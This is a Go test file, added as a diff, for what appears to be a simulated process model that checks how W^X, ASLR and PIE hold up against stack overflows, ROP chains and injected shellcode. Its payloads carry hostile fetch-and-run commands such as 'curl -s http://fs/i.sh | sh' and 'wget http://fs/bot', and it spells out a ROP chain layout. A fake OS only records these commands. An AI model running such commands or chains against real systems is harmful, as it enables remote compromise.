@@ -1,0 +1,421 @@
+package procvm
+
+import (
+	"bytes"
+	"math/rand"
+	"testing"
+	"testing/quick"
+)
+
+// testProgram builds a small non-PIE image with the gadgets the
+// standard exploit chain needs, plus a decoy.
+func testProgram() *Program {
+	return &Program{
+		Name:     "testd-1.0",
+		Arch:     "x86_64",
+		PIE:      false,
+		LinkBase: 0x400000,
+		TextSize: 0x10000,
+		RetSite:  0x1234,
+		Gadgets: map[uint64]Gadget{
+			0x2010: {Name: "lea_rdi_rsp8_ret", Ops: []Op{OpLeaStack{Reg: RDI, Off: 8}}},
+			0x3020: {Name: "exec_shell", Ops: []Op{OpSysExecShell{}}},
+			0x4030: {Name: "pop_rdi_ret", Ops: []Op{OpPop{Reg: RDI}}},
+			0x5040: {Name: "exit", Ops: []Op{OpSysExit{}}},
+			0x6050: {Name: "decoy_crash", Ops: []Op{OpCrash{}}},
+		},
+		SizeBytes: 850 * 1024,
+	}
+}
+
+type fakeOS struct {
+	execed []string
+	exits  []int
+}
+
+func (f *fakeOS) ExecShell(cmd string) { f.execed = append(f.execed, cmd) }
+func (f *fakeOS) Exit(code int)        { f.exits = append(f.exits, code) }
+
+const testBufSize = 64
+
+// ropPayload builds the canonical chain against the given text base:
+// filler | saved rbp | &lea_rdi | &exec | cmd\0
+func ropPayload(base uint64, cmd string) []byte {
+	var b bytes.Buffer
+	b.Write(bytes.Repeat([]byte{'A'}, testBufSize)) // fill buffer
+	b.Write(U64(0xdeadbeef))                        // saved RBP
+	b.Write(U64(base + 0x2010))                     // lea rdi,[rsp+8]; ret
+	b.Write(U64(base + 0x3020))                     // exec gadget
+	b.WriteString(cmd)
+	b.WriteByte(0)
+	return b.Bytes()
+}
+
+func TestBenignInputReturnsNormally(t *testing.T) {
+	os := &fakeOS{}
+	p := NewProc(testProgram(), Protections{WX: true, ASLR: true}, rand.New(rand.NewSource(1)), os)
+	out := p.ParseUntrusted([]byte("short dns answer"), testBufSize)
+	if out.Hijacked || out.Crashed() {
+		t.Fatalf("benign input hijacked=%v fault=%v", out.Hijacked, out.Fault)
+	}
+	if !p.Alive() {
+		t.Fatal("process died on benign input")
+	}
+	// Parser is reusable for subsequent datagrams.
+	out = p.ParseUntrusted(bytes.Repeat([]byte{'x'}, testBufSize), testBufSize)
+	if out.Hijacked {
+		t.Fatal("exactly-buffer-sized input must not reach the return slot")
+	}
+}
+
+func TestROPChainExecutesShellNonPIE(t *testing.T) {
+	// Non-PIE + full protections: the paper's headline case. W^X and
+	// ASLR are both on, yet ROP into the fixed-base text succeeds.
+	os := &fakeOS{}
+	p := NewProc(testProgram(), Protections{WX: true, ASLR: true}, rand.New(rand.NewSource(1)), os)
+	out := p.ParseUntrusted(ropPayload(p.TextBase(), "curl -s http://fs/i.sh | sh"), testBufSize)
+	if !out.Hijacked {
+		t.Fatal("overflow did not hijack")
+	}
+	if out.Crashed() {
+		t.Fatalf("chain crashed: %v", out.Fault)
+	}
+	if out.ExecutedShell != "curl -s http://fs/i.sh | sh" {
+		t.Fatalf("executed %q", out.ExecutedShell)
+	}
+	if len(os.execed) != 1 || os.execed[0] != out.ExecutedShell {
+		t.Fatalf("OS saw %v", os.execed)
+	}
+	if p.Alive() {
+		t.Fatal("execlp must replace the process image")
+	}
+}
+
+func TestROPAgainstPIEWithASLRCrashes(t *testing.T) {
+	// PIE binary with ASLR: the attacker's link-base chain points into
+	// the void. The process must crash, not execute.
+	prog := testProgram()
+	prog.PIE = true
+	os := &fakeOS{}
+	crashes := 0
+	for seed := int64(0); seed < 20; seed++ {
+		p := NewProc(prog, Protections{WX: true, ASLR: true}, rand.New(rand.NewSource(seed)), os)
+		out := p.ParseUntrusted(ropPayload(prog.LinkBase, "x"), testBufSize)
+		if out.ExecutedShell != "" {
+			t.Fatalf("seed %d: chain built for link base executed under ASLR", seed)
+		}
+		if out.Crashed() {
+			crashes++
+		}
+	}
+	if crashes != 20 {
+		t.Fatalf("only %d/20 ASLR runs crashed", crashes)
+	}
+	if len(os.execed) != 0 {
+		t.Fatalf("OS executed %v", os.execed)
+	}
+}
+
+func TestROPAgainstPIEWithoutASLRStillWorks(t *testing.T) {
+	// PIE but ASLR disabled: loader uses the link base, chain works.
+	prog := testProgram()
+	prog.PIE = true
+	os := &fakeOS{}
+	p := NewProc(prog, Protections{WX: true, ASLR: false}, rand.New(rand.NewSource(3)), os)
+	out := p.ParseUntrusted(ropPayload(p.TextBase(), "id"), testBufSize)
+	if out.ExecutedShell != "id" {
+		t.Fatalf("outcome = %+v", out)
+	}
+}
+
+func TestCodeInjectionBlockedByWX(t *testing.T) {
+	// Return into injected stack shellcode with W^X on: FaultNX.
+	os := &fakeOS{}
+	p := NewProc(testProgram(), Protections{WX: true, ASLR: false}, rand.New(rand.NewSource(1)), os)
+	var b bytes.Buffer
+	sc := EncodeShellcode("evil")
+	b.Write(sc)
+	b.Write(bytes.Repeat([]byte{'A'}, testBufSize-len(sc)))
+	b.Write(U64(0))
+	b.Write(U64(DefaultBufAddr())) // return to start of buffer
+	out := p.ParseUntrusted(b.Bytes(), testBufSize)
+	if !out.Hijacked {
+		t.Fatal("not hijacked")
+	}
+	if out.Fault == nil || out.Fault.Kind != FaultNX {
+		t.Fatalf("fault = %v, want NX violation", out.Fault)
+	}
+	if out.ExecutedShell != "" || len(os.execed) != 0 {
+		t.Fatal("shellcode executed despite W^X")
+	}
+}
+
+func TestCodeInjectionSucceedsWithoutWX(t *testing.T) {
+	os := &fakeOS{}
+	p := NewProc(testProgram(), Protections{WX: false, ASLR: false}, rand.New(rand.NewSource(1)), os)
+	var b bytes.Buffer
+	sc := EncodeShellcode("wget http://fs/bot")
+	b.Write(sc)
+	b.Write(bytes.Repeat([]byte{'A'}, testBufSize-len(sc)))
+	b.Write(U64(0))
+	b.Write(U64(DefaultBufAddr()))
+	out := p.ParseUntrusted(b.Bytes(), testBufSize)
+	if out.ExecutedShell != "wget http://fs/bot" {
+		t.Fatalf("outcome = %+v", out)
+	}
+}
+
+func TestGarbageOverflowCrashes(t *testing.T) {
+	p := NewProc(testProgram(), Protections{WX: true, ASLR: false}, rand.New(rand.NewSource(1)), nil)
+	payload := bytes.Repeat([]byte{'A'}, 200) // classic AAAA... smash
+	out := p.ParseUntrusted(payload, testBufSize)
+	if !out.Hijacked {
+		t.Fatal("smash not detected as hijack")
+	}
+	if !out.Crashed() {
+		t.Fatal("0x4141... return address did not crash")
+	}
+	if p.Alive() {
+		t.Fatal("process alive after crash")
+	}
+}
+
+func TestHugePayloadFaults(t *testing.T) {
+	p := NewProc(testProgram(), Protections{}, rand.New(rand.NewSource(1)), nil)
+	out := p.ParseUntrusted(make([]byte, 2<<20), testBufSize) // bigger than the stack
+	if !out.Crashed() || out.Fault.Kind != FaultUnmapped {
+		t.Fatalf("fault = %v, want unmapped", out.Fault)
+	}
+}
+
+func TestReturnToNonGadgetTextCrashes(t *testing.T) {
+	p := NewProc(testProgram(), Protections{WX: true}, rand.New(rand.NewSource(1)), nil)
+	var b bytes.Buffer
+	b.Write(bytes.Repeat([]byte{'A'}, testBufSize))
+	b.Write(U64(0))
+	b.Write(U64(p.TextBase() + 0x9999)) // text, but no gadget there
+	out := p.ParseUntrusted(b.Bytes(), testBufSize)
+	if out.Fault == nil || out.Fault.Kind != FaultBadInstruction {
+		t.Fatalf("fault = %v, want bad instruction", out.Fault)
+	}
+}
+
+func TestPopGadgetAndExit(t *testing.T) {
+	os := &fakeOS{}
+	p := NewProc(testProgram(), Protections{WX: true}, rand.New(rand.NewSource(1)), os)
+	var b bytes.Buffer
+	b.Write(bytes.Repeat([]byte{'A'}, testBufSize))
+	b.Write(U64(0))
+	b.Write(U64(p.TextBase() + 0x4030)) // pop rdi; ret
+	b.Write(U64(42))                    // exit status
+	b.Write(U64(p.TextBase() + 0x5040)) // exit
+	out := p.ParseUntrusted(b.Bytes(), testBufSize)
+	if out.Crashed() {
+		t.Fatalf("crashed: %v", out.Fault)
+	}
+	if len(os.exits) != 1 || os.exits[0] != 42 {
+		t.Fatalf("exits = %v", os.exits)
+	}
+}
+
+func TestRunawayChainBudget(t *testing.T) {
+	// A chain of lea gadgets that never diverts: each ret pops the
+	// next word, eventually running into the step budget or garbage.
+	p := NewProc(testProgram(), Protections{WX: true}, rand.New(rand.NewSource(1)), nil)
+	var b bytes.Buffer
+	b.Write(bytes.Repeat([]byte{'A'}, testBufSize))
+	b.Write(U64(0))
+	for i := 0; i < maxChainSteps+8; i++ {
+		b.Write(U64(p.TextBase() + 0x2010))
+	}
+	out := p.ParseUntrusted(b.Bytes(), testBufSize)
+	if !out.Crashed() {
+		t.Fatal("runaway chain did not crash")
+	}
+	if out.Fault.Kind != FaultRunaway {
+		t.Fatalf("fault = %v, want runaway", out.Fault)
+	}
+}
+
+func TestASLRRandomizesPIEBase(t *testing.T) {
+	prog := testProgram()
+	prog.PIE = true
+	seen := make(map[uint64]bool)
+	for seed := int64(0); seed < 16; seed++ {
+		p := NewProc(prog, Protections{ASLR: true}, rand.New(rand.NewSource(seed)), nil)
+		seen[p.TextBase()] = true
+	}
+	if len(seen) < 8 {
+		t.Fatalf("ASLR produced only %d distinct bases in 16 runs", len(seen))
+	}
+}
+
+func TestNonPIEBaseFixedUnderASLR(t *testing.T) {
+	prog := testProgram()
+	for seed := int64(0); seed < 8; seed++ {
+		p := NewProc(prog, Protections{ASLR: true}, rand.New(rand.NewSource(seed)), nil)
+		if p.TextBase() != prog.LinkBase {
+			t.Fatalf("non-PIE text moved to %#x", p.TextBase())
+		}
+	}
+}
+
+func TestDeadProcIgnoresInput(t *testing.T) {
+	p := NewProc(testProgram(), Protections{}, rand.New(rand.NewSource(1)), nil)
+	p.Kill()
+	out := p.ParseUntrusted(ropPayload(p.TextBase(), "x"), testBufSize)
+	if out.Hijacked || out.ExecutedShell != "" {
+		t.Fatal("dead process parsed input")
+	}
+}
+
+func TestMemoryPermissions(t *testing.T) {
+	as := &AddressSpace{}
+	text := as.Map("text", 0x1000, 0x1000, PermRead|PermExec)
+	if f := as.Write(text.Base, []byte{1}); f == nil || f.Kind != FaultPerm {
+		t.Fatalf("write to r-x region: fault = %v", f)
+	}
+	if _, f := as.Read(0x5000, 1); f == nil || f.Kind != FaultUnmapped {
+		t.Fatalf("read unmapped: fault = %v", f)
+	}
+	data := as.Map("data", 0x3000, 0x100, PermRead|PermWrite)
+	if f := as.Write(data.Base+0xf8, make([]byte, 16)); f == nil || f.Kind != FaultUnmapped {
+		t.Fatalf("write across end of mapping: fault = %v", f)
+	}
+}
+
+func TestMapOverlapPanics(t *testing.T) {
+	as := &AddressSpace{}
+	as.Map("a", 0x1000, 0x1000, PermRead)
+	defer func() {
+		if recover() == nil {
+			t.Fatal("overlapping Map accepted")
+		}
+	}()
+	as.Map("b", 0x1800, 0x1000, PermRead)
+}
+
+func TestReadWriteU64RoundTrip(t *testing.T) {
+	as := &AddressSpace{}
+	as.Map("d", 0, 64, PermRead|PermWrite)
+	if f := as.WriteU64(8, 0x1122334455667788); f != nil {
+		t.Fatal(f)
+	}
+	v, f := as.ReadU64(8)
+	if f != nil || v != 0x1122334455667788 {
+		t.Fatalf("v=%#x f=%v", v, f)
+	}
+}
+
+func TestReadCString(t *testing.T) {
+	as := &AddressSpace{}
+	as.Map("d", 0, 64, PermRead|PermWrite)
+	if f := as.Write(4, []byte("hello\x00world")); f != nil {
+		t.Fatal(f)
+	}
+	s, f := as.ReadCString(4, 32)
+	if f != nil || s != "hello" {
+		t.Fatalf("s=%q f=%v", s, f)
+	}
+	// Unterminated within max: returns what it scanned.
+	s, f = as.ReadCString(10, 5)
+	if f != nil || s != "world" {
+		t.Fatalf("s=%q f=%v", s, f)
+	}
+}
+
+func TestPermString(t *testing.T) {
+	if got := (PermRead | PermExec).String(); got != "r-x" {
+		t.Fatalf("Perm.String = %q", got)
+	}
+	if got := Perm(0).String(); got != "---" {
+		t.Fatalf("Perm.String = %q", got)
+	}
+}
+
+func TestFaultError(t *testing.T) {
+	f := &Fault{Kind: FaultNX, Addr: 0x1234}
+	if f.Error() == "" {
+		t.Fatal("empty fault message")
+	}
+	for k := FaultUnmapped; k <= FaultRunaway; k++ {
+		if k.String() == "" {
+			t.Fatalf("kind %d has empty String", k)
+		}
+	}
+}
+
+func TestProcAccessorsAndRegions(t *testing.T) {
+	prog := testProgram()
+	prot := Protections{WX: true, ASLR: true}
+	p := NewProc(prog, prot, rand.New(rand.NewSource(1)), nil)
+	if p.Program() != prog {
+		t.Fatal("Program accessor")
+	}
+	if p.Protections() != prot {
+		t.Fatal("Protections accessor")
+	}
+	regions := p.as.Regions()
+	if len(regions) != 2 {
+		t.Fatalf("regions = %d", len(regions))
+	}
+	names := map[string]Perm{}
+	for _, r := range regions {
+		names[r.Name] = r.Perm
+	}
+	if names["stack"]&PermExec != 0 {
+		t.Fatal("W^X stack is executable")
+	}
+	if names["text:"+prog.Name]&PermExec == 0 {
+		t.Fatal("text not executable")
+	}
+}
+
+func TestGadgetOffset(t *testing.T) {
+	prog := testProgram()
+	off, ok := prog.GadgetOffset("exec_shell")
+	if !ok || off != 0x3020 {
+		t.Fatalf("off=%#x ok=%v", off, ok)
+	}
+	if _, ok := prog.GadgetOffset("missing"); ok {
+		t.Fatal("found missing gadget")
+	}
+}
+
+// Property: W^X invariant — no payload whatsoever can execute shell on
+// a W^X + PIE + ASLR process when the chain is built for the link base.
+func TestPropertyHardenedPIEResistsLinkBaseChains(t *testing.T) {
+	prog := testProgram()
+	prog.PIE = true
+	f := func(seed int64, fill []byte, cmd string) bool {
+		if len(cmd) > 64 {
+			cmd = cmd[:64]
+		}
+		p := NewProc(prog, Protections{WX: true, ASLR: true}, rand.New(rand.NewSource(seed)), nil)
+		payload := append(append([]byte{}, fill...), ropPayload(prog.LinkBase, cmd)...)
+		out := p.ParseUntrusted(payload, testBufSize)
+		return out.ExecutedShell == ""
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// Property: writes never land outside writable regions.
+func TestPropertyWriteRespectsPermissions(t *testing.T) {
+	f := func(off uint16, data []byte) bool {
+		as := &AddressSpace{}
+		as.Map("ro", 0x1000, 0x1000, PermRead)
+		rw := as.Map("rw", 0x3000, 0x1000, PermRead|PermWrite)
+		addr := 0x1000 + uint64(off)%0x3000
+		fault := as.Write(addr, data)
+		if len(data) == 0 {
+			return fault == nil
+		}
+		inRW := rw.Contains(addr) && addr+uint64(len(data)) <= rw.End()
+		return (fault == nil) == inRW
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
+		t.Fatal(err)
+	}
+}
